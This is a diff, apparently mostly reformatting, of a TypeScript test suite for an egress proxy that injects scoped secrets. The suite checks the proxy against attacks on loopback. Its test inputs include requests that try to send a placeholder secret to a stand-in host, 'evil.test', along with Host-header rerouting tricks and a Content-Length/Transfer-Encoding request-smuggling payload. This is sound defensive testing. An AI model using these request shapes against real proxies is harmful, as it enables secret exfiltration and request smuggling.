@@ -103,7 +103,10 @@ describe("egress proxy with scoped secrets under attack (real processes, loopbac
     upstreamCaPath = join(dir, "upstream-ca.pem");
     await writeFile(upstreamCaPath, upstreamCa.certPem);
     const leaves = await LeafCertificates.load(upstreamCa);
-    tlsUpstream = createHttpsServer({ SNICallback: (n, done) => void leaves.contextFor(n || "127.0.0.1").then((c) => done(null, c), done) }, recording(received, reflect));
+    tlsUpstream = createHttpsServer(
+      { SNICallback: (n, done) => void leaves.contextFor(n || "127.0.0.1").then((c) => done(null, c), done) },
+      recording(received, reflect),
+    );
     plainUpstream = createHttpServer(recording(received, (_req, _r, res) => res.end("ok\n")));
     await new Promise<void>((r) => tlsUpstream.listen(0, "127.0.0.1", () => r()));
     await new Promise<void>((r) => plainUpstream.listen(0, "127.0.0.1", () => r()));
@@ -163,24 +166,37 @@ describe("egress proxy with scoped secrets under attack (real processes, loopbac
   it("never writes a value into a cleartext (http://) request, even to the secret's own host, unless the workspace opts in", async () => {
     const proxy = await startProxy("default");
     const before = received.length;
-    const out = await plainThroughProxy(proxy.socket, `GET http://api.test:${plainPort}/v1 HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`);
+    const out = await plainThroughProxy(
+      proxy.socket,
+      `GET http://api.test:${plainPort}/v1 HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`,
+    );
     assert.equal(received.length, before, `nothing went out in cleartext (the upstream got: ${JSON.stringify(received.at(-1)?.headers.authorization)})`);
     assert.match(out, /^HTTP\/1\.1 403 [\s\S]*secret API_KEY[\s\S]*only over TLS[\s\S]*https:\/\/api\.test/);
     assert.ok(!out.includes(VALUE));
     assert.match(proxy.log(), /refused: .*API_KEY/);
 
     const optedIn = await startProxy("cleartext", ["--secrets-over-http"]);
-    const answer = await plainThroughProxy(optedIn.socket, `GET http://api.test:${plainPort}/v2 HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`);
+    const answer = await plainThroughProxy(
+      optedIn.socket,
+      `GET http://api.test:${plainPort}/v2 HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`,
+    );
     assert.equal(received.at(-1)?.headers.authorization, `Bearer ${VALUE}`, "with the opt-in, plain http to the secret's host is substituted");
     assert.match(answer, /^HTTP\/1\.1 200/);
     // The opt-in widens transport, never scope.
-    const elsewhere = await plainThroughProxy(optedIn.socket, `GET http://evil.test:${plainPort}/x HTTP/1.1\r\nHost: api.test\r\nX-K: ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`);
+    const elsewhere = await plainThroughProxy(
+      optedIn.socket,
+      `GET http://evil.test:${plainPort}/x HTTP/1.1\r\nHost: api.test\r\nX-K: ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`,
+    );
     assert.match(elsewhere, /^HTTP\/1\.1 403 [\s\S]*not to evil\.test/);
   });
 
   it("does not hand the value back in an upstream's reason phrase, header names or gzipped body", async () => {
     const proxy = await startProxy("reflect");
-    const answer = await httpsThroughProxy(proxy.socket, "api.test", `GET /echo HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer ${PLACEHOLDER}\r\nAccept-Encoding: gzip\r\nConnection: close\r\n\r\n`);
+    const answer = await httpsThroughProxy(
+      proxy.socket,
+      "api.test",
+      `GET /echo HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer ${PLACEHOLDER}\r\nAccept-Encoding: gzip\r\nConnection: close\r\n\r\n`,
+    );
     assert.equal(received.at(-1)?.headers.authorization, `Bearer ${VALUE}`, "the request itself was substituted");
     const head = answer.subarray(0, answer.indexOf("\r\n\r\n")).toString("latin1");
     assert.match(head, /^HTTP\/1\.1 200/);
@@ -195,18 +211,30 @@ describe("egress proxy with scoped secrets under attack (real processes, loopbac
     const before = received.length;
     // An upstream certified by a CA the host does not trust (a MITM on the path, a hijacked address).
     const untrusting = await startProxy("untrusted-upstream", [], false);
-    const unknownCa = await httpsThroughProxy(untrusting.socket, "api.test", `GET /u HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`);
+    const unknownCa = await httpsThroughProxy(
+      untrusting.socket,
+      "api.test",
+      `GET /u HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`,
+    );
     assert.match(unknownCa.toString("latin1"), /^HTTP\/1\.1 502 /);
     // A trusted CA, but a certificate for another name.
     const otherCa = await mintCertificateAuthority("test-upstream-other");
     const otherLeaves = await LeafCertificates.load(otherCa);
-    const wrongName = createHttpsServer({ SNICallback: (_n, done) => void otherLeaves.contextFor("other.test").then((c) => done(null, c), done) }, recording(received, reflect));
+    const wrongName = createHttpsServer(
+      { SNICallback: (_n, done) => void otherLeaves.contextFor("other.test").then((c) => done(null, c), done) },
+      recording(received, reflect),
+    );
     await new Promise<void>((r) => wrongName.listen(0, "127.0.0.1", () => r()));
     try {
       await writeFile(join(dir, "other-ca.pem"), otherCa.certPem);
       const trusting = await startProxy("wrong-name", [`--test-upstream-ca=${join(dir, "other-ca.pem")}`], false);
       const port = (wrongName.address() as { port: number }).port;
-      const mismatch = await httpsThroughProxy(trusting.socket, "api.test", `GET /w HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`, port);
+      const mismatch = await httpsThroughProxy(
+        trusting.socket,
+        "api.test",
+        `GET /w HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`,
+        port,
+      );
       assert.match(mismatch.toString("latin1"), /^HTTP\/1\.1 502 [\s\S]*(altnames|certificate)/);
     } finally {
       wrongName.closeAllConnections();
@@ -217,7 +245,8 @@ describe("egress proxy with scoped secrets under attack (real processes, loopbac
 
   it("starts the proxy with values over plain http only for a workspace that opted in", async () => {
     const files = { secretsPath: join(dir, "s.json"), auditPath: join(dir, "a.json"), caCertPath: join(dir, "c.pem"), caKeyPath: join(dir, "k.pem") };
-    const launch = (secretsOverHttp: boolean) => egressNetwork(join(dir, "launch-policy.json"), { allow: [] }, dir, {}, { ...files, ...(secretsOverHttp ? { secretsOverHttp } : {}) });
+    const launch = (secretsOverHttp: boolean) =>
+      egressNetwork(join(dir, "launch-policy.json"), { allow: [] }, dir, {}, { ...files, ...(secretsOverHttp ? { secretsOverHttp } : {}) });
     assert.ok(!(await launch(false)).egressServer.includes("--secrets-over-http"));
     assert.ok((await launch(true)).egressServer.includes("--secrets-over-http"));
   });
@@ -226,21 +255,48 @@ describe("egress proxy with scoped secrets under attack (real processes, loopbac
     const proxy = await startProxy("routing");
     const before = received.length;
     // An in-scope tunnel whose inner request names another host: it goes to the tunnel's host (api.test, with its Host).
-    await httpsThroughProxy(proxy.socket, "api.test", `GET /a HTTP/1.1\r\nHost: evil.test\r\nAuthorization: Bearer ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`);
+    await httpsThroughProxy(
+      proxy.socket,
+      "api.test",
+      `GET /a HTTP/1.1\r\nHost: evil.test\r\nAuthorization: Bearer ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`,
+    );
     assert.equal(received.at(-1)?.headers.host, `api.test:${tlsPort}`);
     // An absolute-form request inside the tunnel is refused, not re-routed.
-    const inner = await httpsThroughProxy(proxy.socket, "api.test", `GET https://evil.test:${tlsPort}/b HTTP/1.1\r\nHost: evil.test\r\nX-K: ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`);
+    const inner = await httpsThroughProxy(
+      proxy.socket,
+      "api.test",
+      `GET https://evil.test:${tlsPort}/b HTTP/1.1\r\nHost: evil.test\r\nX-K: ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`,
+    );
     assert.match(inner.toString("latin1"), /^HTTP\/1\.1 400 [\s\S]*origin form/);
     // An out-of-scope tunnel whose Host header names the secret's host: refused (scope follows the CONNECT target).
-    const outOfScope = await httpsThroughProxy(proxy.socket, "evil.test", `GET /c HTTP/1.1\r\nHost: api.test\r\nX-K: ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`);
+    const outOfScope = await httpsThroughProxy(
+      proxy.socket,
+      "evil.test",
+      `GET /c HTTP/1.1\r\nHost: api.test\r\nX-K: ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`,
+    );
     assert.match(outOfScope.toString("latin1"), /^HTTP\/1\.1 403 [\s\S]*not to evil\.test/);
     // A pipelined second request in an in-scope tunnel still goes to the tunnel's host, never elsewhere.
-    const piped = await httpsThroughProxy(proxy.socket, "api.test", `GET /d HTTP/1.1\r\nHost: api.test\r\n\r\nGET /e HTTP/1.1\r\nHost: evil.test\r\nX-K: ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`);
+    const piped = await httpsThroughProxy(
+      proxy.socket,
+      "api.test",
+      `GET /d HTTP/1.1\r\nHost: api.test\r\n\r\nGET /e HTTP/1.1\r\nHost: evil.test\r\nX-K: ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`,
+    );
     assert.equal((piped.toString("latin1").match(/HTTP\/1\.1 200/g) ?? []).length, 2);
-    assert.deepEqual(received.slice(before).map((r) => [r.url, r.headers.host]), [["/a", `api.test:${tlsPort}`], ["/d", `api.test:${tlsPort}`], ["/e", `api.test:${tlsPort}`]]);
+    assert.deepEqual(
+      received.slice(before).map((r) => [r.url, r.headers.host]),
+      [
+        ["/a", `api.test:${tlsPort}`],
+        ["/d", `api.test:${tlsPort}`],
+        ["/e", `api.test:${tlsPort}`],
+      ],
+    );
     // Content-Length with Transfer-Encoding (a smuggling shape) is refused by the parser, forwarding nothing.
     const count = received.length;
-    const smuggle = await httpsThroughProxy(proxy.socket, "api.test", `POST /f HTTP/1.1\r\nHost: api.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /g HTTP/1.1\r\nHost: api.test\r\n\r\n`);
+    const smuggle = await httpsThroughProxy(
+      proxy.socket,
+      "api.test",
+      `POST /f HTTP/1.1\r\nHost: api.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /g HTTP/1.1\r\nHost: api.test\r\n\r\n`,
+    );
     assert.match(smuggle.toString("latin1"), /^HTTP\/1\.1 400/);
     assert.equal(received.length, count);
   });
